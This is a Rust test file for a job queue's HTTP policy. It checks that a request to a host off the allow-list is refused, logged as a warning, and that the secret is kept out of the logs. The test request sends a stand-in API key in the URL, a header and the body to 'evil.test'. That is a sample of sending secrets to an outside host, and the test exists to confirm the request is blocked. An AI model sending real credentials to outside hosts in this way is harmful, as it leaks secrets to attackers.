//! What is logged about a refused job.
#![cfg(feature = "http")]

use std::fmt::{Debug, Write as _};
use std::sync::{Arc, Mutex};

use ratchet::Job as _;
use ratchet::testing::Sandbox;
use ratchet_extras::http::{Http, HttpPolicy};
use tracing::field::{Field, Visit};
use tracing::span::{Attributes, Id, Record};
use tracing::{Event, Metadata, Subscriber};

/// Collects events, one line each.
#[derive(Clone, Default)]
struct Logs(Arc<Mutex<Vec<String>>>);

struct Line(String);

impl Visit for Line {
    fn record_debug(&mut self, field: &Field, value: &dyn Debug) {
        let _ = write!(self.0, " {}={value:?}", field.name());
    }
}

impl Subscriber for Logs {
    fn enabled(&self, _: &Metadata<'_>) -> bool {
        true
    }

    fn new_span(&self, _: &Attributes<'_>) -> Id {
        Id::from_u64(1)
    }

    fn record(&self, _: &Id, _: &Record<'_>) {}

    fn record_follows_from(&self, _: &Id, _: &Id) {}

    fn event(&self, event: &Event<'_>) {
        let mut line = Line(event.metadata().level().to_string());
        event.record(&mut line);
        self.0.lock().expect("not poisoned").push(line.0);
    }

    fn enter(&self, _: &Id) {}

    fn exit(&self, _: &Id) {}
}

// spec: Y-03
#[tokio::test]
async fn y_03_a_refusal_is_logged_as_a_warning_without_secrets() {
    let logs = Logs::default();
    let _guard = tracing::subscriber::set_default(logs.clone());
    let policy = HttpPolicy::builder().method("GET").build().expect("a policy");
    let sandbox =
        Sandbox::builder().jobs([Http::JOB]).state(policy).build().await.expect("a sandbox");
    let job = Http::get("https://evil.test/hunter2?key=hunter2").header("x-api-key", "hunter2");
    let handle = sandbox.enqueue(job.text("hunter2")).await.expect("enqueued");
    sandbox.drain().await.expect("drained");
    let lines = logs.0.lock().expect("not poisoned").clone();
    let refused: Vec<_> = lines.iter().filter(|line| line.contains("the job is refused")).collect();
    assert_eq!(refused.len(), 1, "{lines:?}");
    for part in ["WARN", &handle.id().to_string(), "ratchet.http", "host_not_allowed", "evil.test"]
    {
        assert!(refused[0].contains(part), "{part}: {}", refused[0]);
    }
    assert!(!lines.iter().any(|line| line.contains("hunter2")), "{lines:?}");
}
